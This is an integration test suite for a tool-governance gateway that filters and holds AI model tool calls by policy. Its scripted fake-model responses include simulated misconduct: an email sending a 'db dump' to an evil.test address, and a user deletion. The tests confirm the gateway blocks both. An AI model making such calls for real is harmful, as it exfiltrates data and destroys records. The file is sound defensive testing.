import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Anthropic from '@anthropic-ai/sdk';
import OpenAI from 'openai';
import type { ChatCompletionChunk } from 'openai/resources/chat/completions';
import { pino } from 'pino';
import { adminRoutes } from '../../src/agency/admin-routes.ts';
import { Approvals, type ApprovalRecord } from '../../src/agency/approvals.ts';
import { createToolGovernance } from '../../src/agency/gateway.ts';
import { configSchema } from '../../src/config/schema.ts';
import { createGateway, type Gateway } from '../../src/gateway/server.ts';
import { compileGuard } from '../../src/policy/engine.ts';
import { parsePolicyText } from '../../src/policy/load.ts';
import { openDatabase } from '../../src/store/sqlite.ts';
import { startToolFakeModel, type ToolFakeModel } from './agency-fake-model.ts';

/**
 * Tool governance through the real gateway, driven by the official OpenAI SDK against a scripted
 * model: what the model is offered, which calls reach the caller (streaming and not), approvals
 * through the admin API, and an approval that survives a gateway restart.
 */

const TOKEN = 'agency-admin-token';
const POLICY = `
apiVersion: parapet.dev/v1alpha1
kind: GuardrailPolicy
metadata:
  name: support
spec:
  tools:
    default: deny
    rules:
      - name: search_docs
        action: allow
      - name: send_email
        action: allow
        when: "args.to.endsWith('@example.com')"
      - name: refund_order
        action: approve
        when: "args.amount > 100"
      - name: refund_order
        action: allow
    approval:
      timeoutSeconds: 30
`;

const OFFER = ['search_docs', 'send_email', 'refund_order', 'delete_user'].map((name) => ({
  type: 'function' as const,
  function: { name, parameters: { type: 'object', properties: {} } },
}));

interface Running {
  url: string;
  client: OpenAI;
  approvals: Approvals;
  gateway: Gateway;
}

let fake: ToolFakeModel;
let dataDir: string;
let gw: Running;

async function startGateway(dir: string): Promise<Running> {
  const { policies, errors } = parsePolicyText(POLICY, 'support.yaml');
  assert.deepEqual(errors, []);
  const config = configSchema.parse({
    server: { host: '127.0.0.1', port: 0, shutdownGraceMs: 50 },
    upstreams: [
      {
        name: 'fake',
        baseUrl: `${fake.url}/v1`,
        timeouts: { connectMs: 1000, headersMs: 5000, idleMs: 5000 },
      },
    ],
  });
  const approvals = new Approvals({ db: openDatabase(dir), pollMs: 20 });
  const guard = compileGuard(policies);
  const gateway = createGateway({
    config,
    getGuard: () => guard,
    log: pino({ level: 'silent' }),
    tools: createToolGovernance({ policies: () => policies, approvals }),
  });
  await gateway.app.register(adminRoutes({ approvals, adminToken: TOKEN }));
  const url = await gateway.listen();
  return {
    url,
    approvals,
    gateway,
    client: new OpenAI({ baseURL: `${url}/v1`, apiKey: 'k', maxRetries: 0 }),
  };
}

async function admin<T>(url: string, method: 'GET' | 'POST', path: string, body?: object): Promise<T> {
  const response = await fetch(`${url}${path}`, {
    method,
    headers: { authorization: `Bearer ${TOKEN}`, ...(body ? { 'content-type': 'application/json' } : {}) },
    ...(body ? { body: JSON.stringify(body) } : {}),
  });
  assert.equal(response.status, 200, `${method} ${path}`);
  return (await response.json()) as T;
}

async function pendingApproval(url: string): Promise<ApprovalRecord> {
  for (let i = 0; i < 500; i++) {
    const { data } = await admin<{ data: ApprovalRecord[] }>(url, 'GET', '/admin/approvals?status=pending');
    if (data[0]) return data[0];
    await new Promise((r) => setTimeout(r, 10));
  }
  throw new Error('no pending approval');
}

const ask = { model: 'fake-model', messages: [{ role: 'user' as const, content: 'help me' }], tools: OFFER };

async function streamed(client: OpenAI) {
  const stream = await client.chat.completions.create({ ...ask, stream: true });
  const chunks: ChatCompletionChunk[] = [];
  for await (const chunk of stream) chunks.push(chunk);
  let content = '';
  const calls: { id: string; name: string; arguments: string }[] = [];
  let finish: string | null = null;
  for (const chunk of chunks) {
    const choice = chunk.choices[0];
    if (!choice) continue;
    content += choice.delta.content ?? '';
    for (const delta of choice.delta.tool_calls ?? []) {
      const call = (calls[delta.index] ??= { id: '', name: '', arguments: '' });
      call.id = delta.id ?? call.id;
      call.name += delta.function?.name ?? '';
      call.arguments += delta.function?.arguments ?? '';
    }
    finish = choice.finish_reason ?? finish;
  }
  return { content, calls, finish };
}

before(async () => {
  fake = await startToolFakeModel();
  dataDir = mkdtempSync(join(tmpdir(), 'parapet-agency-'));
  gw = await startGateway(dataDir);
});

after(async () => {
  await gw.gateway.close();
  await fake.close();
  rmSync(dataDir, { recursive: true, force: true });
});

describe('tool governance through the gateway (OpenAI SDK)', () => {
  it('removes denied tools from what the model is offered', async () => {
    fake.answer({ content: 'hi', calls: [] });
    await gw.client.chat.completions.create(ask);
    const offered = (fake.requests.at(-1)?.tools as { function: { name: string } }[]).map(
      (t) => t.function.name,
    );
    assert.deepEqual(offered, ['search_docs', 'send_email', 'refund_order']);
  });

  it('passes allowed calls through unchanged, streaming and not', async () => {
    const args = '{"q":"refund policy","lang":"en"}';
    fake.answer({ calls: [{ id: 'call_1', name: 'search_docs', arguments: args }] });
    const completion = await gw.client.chat.completions.create(ask);
    const call = completion.choices[0]?.message.tool_calls?.[0];
    assert.ok(call?.type === 'function');
    assert.deepEqual([call.id, call.function.name, call.function.arguments], ['call_1', 'search_docs', args]);
    assert.equal(completion.choices[0]?.finish_reason, 'tool_calls');

    const stream = await streamed(gw.client);
    assert.deepEqual(stream.calls, [{ id: 'call_1', name: 'search_docs', arguments: args }]);
    assert.equal(stream.finish, 'tool_calls');
  });

  it('replaces a denied call by an assistant message with finish_reason stop (not streaming)', async () => {
    fake.answer({
      calls: [{ id: 'call_2', name: 'send_email', arguments: '{"to":"eve@evil.test","body":"db dump"}' }],
    });
    const completion = await gw.client.chat.completions.create(ask);
    const choice = completion.choices[0];
    assert.equal(choice?.finish_reason, 'stop');
    assert.equal(choice.message.tool_calls, undefined);
    assert.match(
      choice.message.content ?? '',
      /tool call 'send_email' was blocked by policy rule 'support\/tools.default'/,
    );
  });

  it('replaces a denied call in a stream, where its arguments arrive in pieces', async () => {
    fake.answer({
      content: 'Sending now.',
      calls: [
        { id: 'call_3', name: 'send_email', arguments: '{"to":"eve@evil.test","body":"db dump"}' },
        { id: 'call_4', name: 'search_docs', arguments: '{"q":"x"}' },
      ],
    });
    const stream = await streamed(gw.client);
    assert.deepEqual(stream.calls, [{ id: 'call_4', name: 'search_docs', arguments: '{"q":"x"}' }]);
    assert.match(stream.content, /^Sending now\.\n\n\[Parapet: tool call 'send_email' was blocked/);
    assert.doesNotMatch(JSON.stringify(stream), /evil\.test/);
    // The SDK's own accumulator sees a well-formed message too.
    const final = await gw.client.chat.completions.stream(ask).finalChatCompletion();
    assert.deepEqual(
      final.choices[0]?.message.tool_calls?.map((c) => (c.type === 'function' ? c.function.name : c.type)),
      ['search_docs'],
    );
  });

  it('applies argument conditions', async () => {
    const args = '{"to":"bob@example.com","body":"your refund"}';
    fake.answer({ calls: [{ id: 'call_5', name: 'send_email', arguments: args }] });
    const stream = await streamed(gw.client);
    assert.deepEqual(stream.calls, [{ id: 'call_5', name: 'send_email', arguments: args }]);
  });

  it('holds a call until an admin approves it; the approval is not reusable for other arguments', async () => {
    fake.answer({
      calls: [{ id: 'call_6', name: 'refund_order', arguments: '{"order":"A-1","amount":500}' }],
    });
    const held = gw.client.chat.completions.create(ask);
    const pending = await pendingApproval(gw.url);
    assert.deepEqual([pending.tool, pending.arguments], ['refund_order', { order: 'A-1', amount: 500 }]);
    await admin(gw.url, 'POST', `/admin/approvals/${pending.id}/approve`, { reason: 'verified' });
    const completion = await held;
    const call = completion.choices[0]?.message.tool_calls?.[0];
    assert.ok(call?.type === 'function');
    assert.equal(call.function.arguments, '{"order":"A-1","amount":500}');
    const used = await admin<ApprovalRecord>(gw.url, 'GET', `/admin/approvals/${pending.id}`);
    assert.deepEqual([used.status, used.decidedBy, used.decisionReason], ['used', 'admin', 'verified']);

    // Different arguments: a new approval is needed; denying it replaces the call.
    fake.answer({
      calls: [{ id: 'call_7', name: 'refund_order', arguments: '{"order":"A-1","amount":900}' }],
    });
    const second = streamed(gw.client);
    const other = await pendingApproval(gw.url);
    assert.notEqual(other.id, pending.id);
    await admin(gw.url, 'POST', `/admin/approvals/${other.id}/deny`, { reason: 'too much' });
    const result = await second;
    assert.deepEqual(result.calls, []);
    assert.equal(result.finish, 'stop');
    assert.match(result.content, /denied by admin: too much/);
  });

  it('keeps a pending approval across a restart; the retried call then goes through', async () => {
    const args = '{"order":"B-2","amount":250}';
    fake.answer({ calls: [{ id: 'call_8', name: 'refund_order', arguments: args }] });
    const abort = new AbortController();
    const held = gw.client.chat.completions.create(ask, { signal: abort.signal });
    const pending = await pendingApproval(gw.url);
    abort.abort();
    await assert.rejects(held);
    await gw.gateway.close();

    gw = await startGateway(dataDir);
    const listed = await pendingApproval(gw.url);
    assert.equal(listed.id, pending.id);
    await admin(gw.url, 'POST', `/admin/approvals/${pending.id}/approve`);
    const completion = await gw.client.chat.completions.create(ask);
    const call = completion.choices[0]?.message.tool_calls?.[0];
    assert.ok(call?.type === 'function');
    assert.equal(call.function.arguments, args);
    assert.equal(
      (await admin<ApprovalRecord>(gw.url, 'GET', `/admin/approvals/${pending.id}`)).status,
      'used',
    );
  });
});

describe('tool governance through the gateway (Anthropic SDK, translated to an OpenAI upstream)', () => {
  const anthropic = () => new Anthropic({ baseURL: gw.url, apiKey: 'k', maxRetries: 0 });
  const askAnthropic = {
    model: 'fake-model',
    max_tokens: 100,
    messages: [{ role: 'user' as const, content: 'help me' }],
    tools: ['search_docs', 'send_email', 'delete_user'].map((name) => ({
      name,
      input_schema: { type: 'object' as const, properties: {} },
    })),
  };

  it('filters the offer and replaces a denied tool_use block by text, ending the turn', async () => {
    fake.answer({ calls: [{ id: 'call_a1', name: 'send_email', arguments: '{"to":"eve@evil.test"}' }] });
    const message = await anthropic().messages.create(askAnthropic);
    const offered = (fake.requests.at(-1)?.tools as { function: { name: string } }[]).map(
      (t) => t.function.name,
    );
    assert.deepEqual(offered, ['search_docs', 'send_email']);
    assert.equal(message.stop_reason, 'end_turn');
    assert.deepEqual(
      message.content.map((b) => b.type),
      ['text'],
    );
    const [block] = message.content;
    assert.ok(block?.type === 'text');
    assert.match(block.text, /tool call 'send_email' was blocked/);
  });

  it('streams: a denied call becomes a text block, an allowed one arrives intact', async () => {
    fake.answer({
      calls: [
        { id: 'call_a2', name: 'delete_user', arguments: '{"id":"u-1"}' },
        { id: 'call_a3', name: 'search_docs', arguments: '{"q":"refund policy"}' },
      ],
    });
    const message = await anthropic().messages.stream(askAnthropic).finalMessage();
    assert.equal(message.stop_reason, 'tool_use');
    const tools = message.content.filter((b) => b.type === 'tool_use');
    assert.deepEqual(
      tools.map((b) => [b.name, b.input]),
      [['search_docs', { q: 'refund policy' }]],
    );
    const notices = message.content.filter((b) => b.type === 'text').map((b) => b.text);
    assert.ok(notices.some((t) => /tool call 'delete_user' was blocked/.test(t)));
    assert.doesNotMatch(JSON.stringify(message), /u-1/);
  });
});
